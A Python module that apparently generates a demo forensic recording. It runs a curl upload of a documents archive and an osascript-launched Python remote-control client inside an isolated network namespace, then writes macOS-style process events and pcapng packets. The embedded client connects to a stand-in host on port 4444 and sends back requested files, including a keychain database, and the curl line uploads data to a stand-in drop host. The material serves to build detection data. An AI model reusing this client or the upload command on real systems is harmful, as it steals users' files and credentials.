"""The attack of the demo recording: AN1227's own example, twice.

Once Automator runs curl, which uploads an archive by HTTPS; once osascript runs Python, which opens a socket to port 4444 and does what it
is told there. The packets are real: curl and Python run, in a namespace of their own (stage.py). The process events around them
are made, in the shape of a Mac's.
"""

import os
import pickle
import random
import shlex
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from . import pcapng
from . import programs as p
from .mac import ADDRESS, HOME
from .stage import Scene

MEGABYTE = 1_000_000
ARCHIVE, ARCHIVE_SIZE = "Documents.zip", 24 * MEGABYTE
LOOT, LOOT_SIZE = "login.keychain-db", 1_800_000

DROP_NAME, DROP_ADDRESS = "files.example.net", "198.51.100.23"
CONTROL_NAME, CONTROL_ADDRESS, CONTROL_PORT = "control.example.net", "203.0.113.66", 4444

UPLOAD = ["curl", "-sS", "--limit-rate", "4M", "-T", ARCHIVE, f"https://{DROP_NAME}/in/"]
PUPPET = f"""\
import os, socket, struct
s = socket.create_connection(("{CONTROL_ADDRESS}", {CONTROL_PORT}))
for word, *name in map(str.split, s.makefile()):
    data = open(name[0], "rb").read() if name else chr(10).join(sorted(os.listdir("."))).encode()
    s.sendall(struct.pack("!I", len(data)) + data)
"""
ORDERS = (b"list\n", b"get notes.txt\n", b"get contacts.csv\n", f"get {LOOT}\n".encode())

# How much of each direction of a connection is kept whole, in bytes of payload: the greeting by which a protocol is known. Of what follows
# only the headers are kept; the length of the frame stays.
KEPT_WHOLE, KEPT_HEADERS = 8192, 96
ETHERNET_HEADER = 14


def perform(mac, begin_upload, begin_control, process_lines, packets_file, header):
    """Runs the two programs and writes what a Mac would have recorded, at the two times given."""
    upload, control = run_scenes()
    curl = automator_runs_curl(mac, begin_upload, upload.end - upload.begin)
    python = osascript_runs_python(mac, begin_control, control.end - control.begin)
    with open(process_lines, "w", encoding="ascii") as out:
        out.write(header)
        mac.write(out)  # from here on the processes have numbers
    with open(packets_file, "wb") as out:
        out.write(
            pcapng.section(
                "Linux, labelled as macOS",
                "make_demo.py",
                "Real packets of curl and Python over loopback; see README.md",
            )
        )
        out.write(pcapng.interface("en0"))
        out.write(pcapng.process(curl.pid, "curl"))
        out.write(pcapng.process(python.pid, "Python"))
        for index, (take, begin) in enumerate([(upload, begin_upload), (control, begin_control)]):
            out.writelines(packets(take, begin, index))


def run_scenes():
    """What was seen of the upload and of the remote control."""
    with tempfile.TemporaryDirectory() as folder:
        folder = Path(folder)
        documents = folder / "documents"
        documents.mkdir()
        lines = random.Random(1)
        (documents / ARCHIVE).write_bytes(lines.randbytes(ARCHIVE_SIZE))
        (documents / LOOT).write_bytes(lines.randbytes(LOOT_SIZE))
        (documents / "notes.txt").write_text("Call the bank about the new account.\n" * 30)
        (documents / "contacts.csv").write_text("".join(f"Person {n},person{n}@example.org\n" for n in range(900)))
        certificate = folder / "server.pem"
        make_certificate(certificate)
        common = {"folder": str(documents)}
        scenes = [
            Scene(
                UPLOAD,
                shutil.which("curl"),
                name=DROP_NAME,
                address=DROP_ADDRESS,
                port=443,
                certificate=str(certificate),
                **common,
            ),
            Scene(
                ["python3", "-c", PUPPET],
                sys.executable,
                name=CONTROL_NAME,
                address=CONTROL_ADDRESS,
                port=CONTROL_PORT,
                script=ORDERS,
                **common,
            ),
        ]
        (folder / "scenes").write_bytes(pickle.dumps(scenes))
        subprocess.run(
            ["unshare", "--net", "--mount", sys.executable, "-m", "demo.stage", "scenes", "takes"],
            cwd=folder,
            env=dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parent.parent), DEMO_ADDRESS=ADDRESS),
            check=True,
        )
        return pickle.loads((folder / "takes").read_bytes())


def make_certificate(path):
    """A key and a certificate that the server signs for itself."""
    key = [
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-days",
        "30",
    ]
    subject = ["-subj", f"/CN={DROP_NAME}", "-addext", f"subjectAltName=DNS:{DROP_NAME}"]
    subprocess.run([*key, *subject, "-keyout", path, "-out", f"{path}.crt"], check=True, capture_output=True)
    path.write_bytes(path.read_bytes() + Path(f"{path}.crt").read_bytes())


# The processes. A shell command becomes its program in the same process: `/bin/sh` becomes bash, and bash becomes the command.


def automator_runs_curl(mac, begin, duration):
    automator, _ = mac.open(begin - 48, p.AUTOMATOR)
    process = shell(mac, begin - 0.03, automator, shlex.join(UPLOAD))
    mac.execute(begin, process, p.CURL, UPLOAD, cwd=f"{HOME}/Documents")
    mac.exit(begin + duration, process)
    mac.exit(begin + duration + 95, automator)
    return process


def osascript_runs_python(mac, begin, duration):
    viewer, _ = mac.open(begin - 9, p.INVOICE_VIEWER)
    command = shlex.join(["python3", "-c", PUPPET])
    quoted = command.replace("\\", "\\\\").replace('"', '\\"')
    osascript = mac.fork(begin - 0.2, viewer)
    mac.execute(begin - 0.19, osascript, p.OSASCRIPT, ["osascript", "-e", f'do shell script "{quoted}"'])
    process = shell(mac, begin - 0.03, osascript, command)
    mac.execute(begin, process, p.PYTHON_SHIM, ["python3", "-c", PUPPET], cwd=f"{HOME}/Documents")
    mac.execute(begin + 0.002, process, p.PYTHON_STUB, ["python3", "-c", PUPPET], cwd=f"{HOME}/Documents")
    mac.execute(begin + 0.004, process, p.PYTHON, [p.PYTHON.path, "-c", PUPPET], cwd=f"{HOME}/Documents")
    for n, ended in enumerate([process, osascript, viewer]):
        mac.exit(begin + duration + n * 0.1, ended)
    return process


def shell(mac, time, parent, command):
    """`parent` starts a shell for one command."""
    process = mac.fork(time, parent)
    mac.execute(time + 0.004, process, p.SH, ["/bin/sh", "-c", command], cwd=f"{HOME}/Documents")
    mac.execute(time + 0.011, process, p.BASH, ["/bin/sh", "-c", command], cwd=f"{HOME}/Documents")
    return process


# The packets.


def packets(take, begin, process_index):
    """The frames of a take as blocks, moved to the time at which the recording says that the program began."""
    shift = round(begin * 10**9) - round(take.begin * 10**9)
    carried = {True: 0, False: 0}
    for time, frame in take.frames:
        payload = payload_length(frame)
        outbound = frame[ETHERNET_HEADER + 12 : ETHERNET_HEADER + 16] == bytes(map(int, ADDRESS.split(".")))
        kept = frame if carried[outbound] + payload <= KEPT_WHOLE else frame[:KEPT_HEADERS]
        carried[outbound] += payload
        yield pcapng.packet(time + shift, kept, len(frame), outbound, process_index)


def payload_length(frame):
    """Bytes of TCP payload in an IPv4 frame."""
    header = (frame[ETHERNET_HEADER] & 0xF) * 4
    total = int.from_bytes(frame[ETHERNET_HEADER + 2 : ETHERNET_HEADER + 4], "big")
    return total - header - (frame[ETHERNET_HEADER + header + 12] >> 4) * 4
